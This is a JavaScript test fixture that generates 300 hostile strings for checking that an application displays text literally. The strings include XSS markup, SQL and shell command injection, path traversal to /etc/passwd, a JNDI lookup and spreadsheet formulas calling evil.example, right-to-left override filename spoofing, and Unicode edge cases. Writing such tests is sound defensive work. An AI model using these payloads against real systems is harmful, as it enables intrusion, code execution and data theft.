/** Three hundred texts that are to be shown as they are: markup, script, formulas, directions, control characters, great length. */

const MARKUP = [
  "<script>window.pwned=1</script>", "<img src=x onerror=window.pwned=1>", "<svg onload=window.pwned=1>", "<b data-evil>bold</b>",
  "<a href=javascript:window.pwned=1 data-evil>x</a>", "<iframe src=//evil.example data-evil></iframe>", "<style>*{display:none}</style>",
  "</textarea><script>window.pwned=1</script>", "</title><img data-evil src=x>", "<!--", "-->", "]]>", "<![CDATA[x]]>", "&lt;b&gt;", "&#60;script&#62;",
  "\"><img data-evil src=x onerror=window.pwned=1>", "' onfocus=window.pwned=1 autofocus '", "`${window.pwned=1}`", "{{constructor.constructor('window.pwned=1')()}}",
  "{@html '<b data-evil>'}", "{#if 1}", "<form action=//evil.example data-evil><input name=x>", "<meta http-equiv=refresh content=0;url=//evil.example>",
  "<base href=//evil.example/ data-evil>", "<object data=//evil.example data-evil></object>", "<math><mtext></mtext></math>", "<details open ontoggle=window.pwned=1 data-evil>",
];
const SCRIPT = [
  "javascript:window.pwned=1", "data:text/html,<script>window.pwned=1</script>", "';window.pwned=1;//", "\";window.pwned=1;//", "\\';window.pwned=1;//",
  "__proto__", "constructor", "toString", "hasOwnProperty", "prototype", "null", "undefined", "NaN", "true", "0x10", "1e999", "[object Object]", "%00", "%3Cscript%3E", "..%2f..%2fetc%2fpasswd",
  "../../etc/passwd", "C:\\Windows\\system32", "' OR 1=1 --", "'; DROP TABLE records; --", "\" OR \"\"=\"", "$(touch x)", "`touch x`", "| touch x", "%s%s%n", "${jndi:ldap://evil.example/a}",
];
const FORMULA = [
  "=1+1", "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1+1", "=IMPORTXML(\"http://evil.example\")", "＝1+1", "；=1",
  "1;=1+1", "\"=1+1\"", "=\"a\"&\"b\"", "+cmd|' /C calc'!A0", "-2+3+cmd", "@import", "0001", "1E5", "2021-03-15", "1/2",
];
const MARKDOWN = [
  "# heading", "**bold**", "[x](http://evil.example)", "![x](http://evil.example/x.png)", "| a | b |", "```", "---", "> quote", "* item", "1. item", "<http://evil.example>", "~~x~~", "\\*x\\*", "{{ x }}", "{% for x in y %}",
];
const DIRECTIONS = [
  "\u202Eevil\u202C", "\u202Dover", "\u2066isolate", "\u2067right", "\u2069end", "abc\u200Fdef", "\u061Carab", "שלום", "مرحبا", "abc\u202Egnp.exe", "\u202A\u202B\u202C", "\u2067\u2066\u2068x",
  "\u200B\u200B", "zero\u200Dwidth", "\uFEFFbom", "soft\u00ADhyphen", "e\u0301\u0302\u0303\u0304", "Z\u0351\u036B\u0343\u0300\u0301a\u0321l\u0322g\u0327o\u0328", "\u2028line", "\u2029paragraph",
];
const LETTERS = [
  "嘎托镇", "བཀྲ་ཤིས་བདེ་ལེགས།", "𠮷野家", "👩‍⚕️🏔️", "🇨🇳", "ﷺ", "Ωμέγα", "İstanbul", "ǅ", "ß", "ﬁ", "㈱", "１２３", "ｔｅｓｔ", "\u{1F3D4}\u{FE0F}", "\u{E0001}tag", "\uD7FF", "\uFFFD", "ཀྵྨྭ", "།།།",
];
const LONG = ["嘎", "W", "<b>", "=", "\u202E", "ཀ", "a b ", "👩‍⚕️"].map((one) => one.repeat(Math.floor(190 / one.length)));

const kinds = [MARKUP, SCRIPT, FORMULA, MARKDOWN, DIRECTIONS, LETTERS, LONG];
const alone = kinds.flat();
/** Characters that every text of the API may have. */
const MOST = 190;
const whole = (text) => Array.from(text).slice(0, MOST).join("");
/** Each once by itself; then two of different kinds in one, until there are three hundred. */
const mixed = [37, 53].flatMap((step) => alone.map((text, i) => whole(`${text} ${alone[(i * step + 11) % alone.length]}`)));
export const HOSTILE = [...new Set([...alone, ...mixed])].slice(0, 300);
if (HOSTILE.length !== 300) throw new Error(`${HOSTILE.length} hostile texts, not 300`);

/** How a text reads on a page: white space is one space there. */
export function asRead(text) {
  return text.replace(/[\s\u2028\u2029]+/g, " ").trim();
}
